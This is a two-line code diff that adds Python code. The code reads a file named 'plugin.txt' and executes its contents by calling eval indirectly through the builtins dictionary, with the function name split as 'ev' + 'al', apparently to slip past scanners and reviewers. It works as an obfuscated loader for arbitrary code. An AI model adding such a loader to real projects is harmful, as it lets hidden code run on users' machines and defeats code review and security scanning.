@@ -1,0 +1,2 @@
+src = open('plugin.txt').read()
+__builtins__.__dict__['ev' + 'al'](src)
